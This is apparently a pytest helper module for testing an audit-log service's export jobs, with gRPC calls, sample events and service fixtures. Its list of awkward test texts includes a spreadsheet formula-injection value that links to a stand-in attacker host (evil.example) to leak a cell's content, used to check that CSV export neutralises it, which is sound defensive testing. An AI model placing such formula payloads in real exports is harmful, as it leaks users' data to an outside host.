"""Export test helpers: services with export settings of the test's choice, sample events, and
waiting for jobs."""

from __future__ import annotations

import time
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import grpc
import psycopg
import pytest
from google.protobuf import json_format, struct_pb2

from audit.v1 import (
    audit_service_pb2,
    audit_service_pb2_grpc,
    event_pb2,
    export_service_pb2,
    export_service_pb2_grpc,
)
from auditlog.app import Service, create_service
from auditlog.config import Config
from auditlog.domain.canonical import ZERO_HASH, format_timestamp
from auditlog.domain.chain import build_record
from auditlog.domain.event import EventRecord, NewEvent
from auditlog.export.runner import RunnerSettings
from auditlog.storage.postgres.writer import AppendTransaction
from tests.fix_s3 import ACCESS_KEY, REGION, SECRET_KEY

# Values a spreadsheet would execute, Unicode, quotes, separators and line breaks: what the formats
# must carry unchanged (or neutralised, in CSV) and a reader must get back.
AWKWARD_TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\uff1d1+1",
    "'quoted",
    'comma, "quote" and\nnewline',
    "Zoë ☃ 日本語 🎉",
    "#N/A",
)
T0 = datetime(2024, 1, 1, tzinfo=UTC)


def sample_inputs(count: int) -> list[event_pb2.EventInput]:
    """count varied events; every few carry awkward texts, details and occurred_at."""
    inputs = []
    for i in range(count):
        awkward = AWKWARD_TEXTS[i % len(AWKWARD_TEXTS)]
        line = awkward.replace("\n", " ")  # text fields refuse control characters; details keep them
        details = struct_pb2.Struct()
        details.update({"n": i, "note": awkward, "nested": {"list": [1, "two", None, True], "pi": 3.25}})
        message = event_pb2.EventInput(
            event_type="user.login" if i % 2 == 0 else "record.update",
            action=line if i % 3 == 0 else "successful_login",
            user_id=f"user{i % 4}",
            resource_type="authentication",
            resource_id=line if i % 5 == 0 else f"session_{i}",
            risk_level=("low", "medium", "high", "critical")[i % 4],
            ip_address="192.168.1.100" if i % 2 else "2001:db8::1",
            user_agent="Mozilla/5.0 (X11; Linux x86_64)",
            session_id=f"s{i}",
            request_id=f"req-{i}",
            details=details,
        )
        if i % 2 == 0:
            message.occurred_at = f"2024-01-{1 + i % 28:02d}T10:00:00.123456Z"
        inputs.append(message)
    return inputs


def append_events(channel: grpc.Channel, inputs: list[event_pb2.EventInput]) -> list[event_pb2.AuditEvent]:
    stub = audit_service_pb2_grpc.AuditServiceStub(channel)
    out: list[event_pb2.AuditEvent] = []
    for start in range(0, len(inputs), 500):
        request = audit_service_pb2.AppendEventsRequest(events=inputs[start : start + 500])
        out.extend(stub.AppendEvents(request, timeout=30).events)
    return out


def event_fields(event: event_pb2.AuditEvent) -> dict[str, Any]:
    """An API event as the JSON export writes it (canonical values, hex hashes)."""
    return {
        "id": event.id,
        "sequence": event.sequence,
        "event_type": event.event_type,
        "user_id": event.user_id,
        "action": event.action,
        "resource_type": event.resource_type,
        "resource_id": event.resource_id,
        "details": json_format.MessageToDict(event.details),
        "risk_level": event.risk_level,
        "ip_address": event.ip_address,
        "user_agent": event.user_agent,
        "session_id": event.session_id,
        "request_id": event.request_id,
        "occurred_at": (
            format_timestamp(event.occurred_at.ToDatetime(tzinfo=UTC))
            if event.HasField("occurred_at")
            else None
        ),
        "recorded_at": format_timestamp(event.recorded_at.ToDatetime(tzinfo=UTC)),
        "recorded_by": event.recorded_by,
        "leaf_hash": event.leaf_hash,
        "prev_hash": event.prev_hash,
        "chain_hash": event.chain_hash,
        "canonical_version": 2,  # every event the service writes
    }


def export_stub(channel: grpc.Channel) -> export_service_pb2_grpc.ExportServiceStub:
    return export_service_pb2_grpc.ExportServiceStub(channel)


def create_export(
    channel: grpc.Channel, export_format: str, *, job_name: str = "Test Export", **filters: str
) -> export_service_pb2.ExportJob:
    request = export_service_pb2.CreateExportRequest(
        export=export_service_pb2.ExportSpec(
            job_name=job_name, export_format=export_format, filters=event_pb2.EventFilter(**filters)
        ),
        requested_by="tester",
    )
    job: export_service_pb2.ExportJob = export_stub(channel).CreateExport(request, timeout=10)
    return job


def wait_for_job(channel: grpc.Channel, job_id: str, timeout: float = 60.0) -> export_service_pb2.ExportJob:
    """Polls until the job has completed or failed."""
    stub = export_stub(channel)
    deadline = time.monotonic() + timeout
    while True:
        job: export_service_pb2.ExportJob = stub.GetExport(
            export_service_pb2.GetExportRequest(id=job_id), timeout=10
        )
        if job.status in ("completed", "failed"):
            return job
        if time.monotonic() > deadline:
            raise AssertionError(f"job {job_id} still {job.status} after {timeout}s")
        time.sleep(0.05)


def download_content(channel: grpc.Channel, job_id: str) -> tuple[bytes, str, dict[str, str]]:
    """The file through DownloadExportContent: (bytes, content type, initial metadata)."""
    call = export_stub(channel).DownloadExportContent(
        export_service_pb2.DownloadExportContentRequest(id=job_id), timeout=30
    )
    chunks = list(call)
    metadata = {key: value for key, value in call.initial_metadata() if isinstance(value, str)}
    return b"".join(c.data for c in chunks), chunks[0].content_type, metadata


def load_events_directly(database_url: str, count: int) -> None:
    """count valid events written with COPY as the owner (fast, for tests that need many rows)."""
    prev = ZERO_HASH

    def records() -> Iterator[tuple[EventRecord, None]]:
        nonlocal prev
        for i in range(count):
            event = NewEvent(event_type="bulk.load", action=f"a{i}", details={"i": float(i)})
            record = build_record(
                event, sequence=i, recorded_at=T0 + timedelta(seconds=i), prev=prev, event_id=uuid.uuid4()
            )
            prev = record.chain_hash
            yield record, None

    with psycopg.connect(database_url) as conn:
        AppendTransaction(conn).insert(records())
        conn.execute(
            "UPDATE log_head SET sequence = %s, chain_hash = %s, recorded_at = %s WHERE id = 1",
            (count - 1, prev, T0 + timedelta(seconds=count - 1)),
        )


ServiceFactory = Callable[..., Service]


@pytest.fixture
def start_service(database_url: str, tmp_path: Path) -> Iterator[ServiceFactory]:
    """Starts services on the test's database: start(s3_bucket=..., s3_endpoint_url=...,
    settings=RunnerSettings(...)). All are stopped at the end; the data dir is shared, as after a
    restart."""
    started: list[Service] = []

    def start(
        *,
        s3_bucket: str | None = None,
        s3_endpoint_url: str | None = None,
        settings: RunnerSettings | None = None,
    ) -> Service:
        config = Config(
            database_url=None,
            data_dir=tmp_path / "data",
            grpc_host="127.0.0.1",
            grpc_port=0,
            aws_access_key_id=ACCESS_KEY,
            aws_secret_access_key=SECRET_KEY,
            aws_default_region=REGION,
            s3_bucket_name=s3_bucket,
            s3_endpoint_url=s3_endpoint_url,
            public_base_url="http://gateway.test:8000",
            # An export waits for a checkpoint covering its events: the documented minimum keeps it short.
            checkpoint_interval=0.05,
        )
        svc = create_service(
            config,
            database_url=database_url,
            health_interval=0.2,
            export_settings=settings or RunnerSettings(poll_interval=0.2, heartbeat_interval=0.5),
        )
        started.append(svc)
        return svc

    yield start
    for svc in started:
        svc.stop(grace=2)


@pytest.fixture
def export_channel(start_service: ServiceFactory) -> Iterator[grpc.Channel]:
    """A channel to a service storing exports in the local folder."""
    svc = start_service()
    with grpc.insecure_channel(f"127.0.0.1:{svc.port}") as channel:
        yield channel
